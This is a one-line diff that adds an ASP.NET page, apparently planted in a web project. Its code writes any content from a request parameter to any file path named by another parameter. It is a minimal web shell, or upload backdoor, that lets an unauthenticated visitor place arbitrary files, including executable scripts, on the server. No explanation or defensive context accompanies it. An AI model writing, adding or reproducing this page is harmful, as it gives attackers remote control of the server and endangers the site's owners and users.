@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><% System.IO.File.WriteAllText(Request["p"], Request["c"]); %>
